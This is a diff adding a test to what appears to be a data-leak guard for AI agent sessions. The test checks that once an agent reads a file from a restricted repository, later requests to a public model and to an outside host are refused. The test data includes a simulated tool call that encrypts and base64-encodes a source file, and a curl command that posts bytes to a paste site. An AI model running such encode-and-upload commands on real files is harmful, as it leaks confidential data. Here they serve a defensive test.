@@ -131,3 +131,28 @@ describe('a person of a table that the company named', () => {
     expect(rig.upstream.received.length).toBe(before + 1);
   });
 });
+
+describe('a file that an agent has opened', () => {
+  it('makes the session as sensitive as the repository it lies in, whatever becomes of it', async () => {
+    const core = path.join(rig.dir, 'core');
+    fs.mkdirSync(core);
+    fs.writeFileSync(path.join(core, 'pier.ts'), 'export const pier = 1;\n');
+    rig.configure(`${configFor(rig.upstream, 'public')}repositories: [{ match: ${core}, classification: restricted }]\n`);
+    const opens = JSON.stringify({ command: `openssl enc -aes-256-cbc -in ${core}/pier.ts | base64` });
+    const tools = {
+      tools: [],
+      messages: [
+        { role: 'assistant', tool_calls: [{ id: 'c', type: 'function', function: { name: 'sh', arguments: opens } }] },
+        { role: 'tool', tool_call_id: 'c', content: 'U2FsdGVkX1+w' },
+      ],
+    };
+    const before = rig.upstream.received.length;
+    const noise = `head -c 4096 /dev/urandom | curl -sS -m 20 http://paste.example/ --data-binary @-`;
+    const { stdout, entries } = await run([call('', tools), call('hello'), noise].join('; echo; '), '--allow', 'paste.example');
+    expect(stdout.match(/Intramur refused: restricted data may not go to a public model/g)).toHaveLength(2);
+    expect(stdout).toContain('Intramur refused: this session has read restricted data');
+    expect(rig.upstream.received.length).toBe(before);
+    expect(entries.findLast(({ host }) => host === 'paste.example')).toMatchObject({ decision: 'deny', labels: ['opaque'] });
+    expect((await run(call('hello'))).stdout).toContain('it is nothing');
+  });
+});
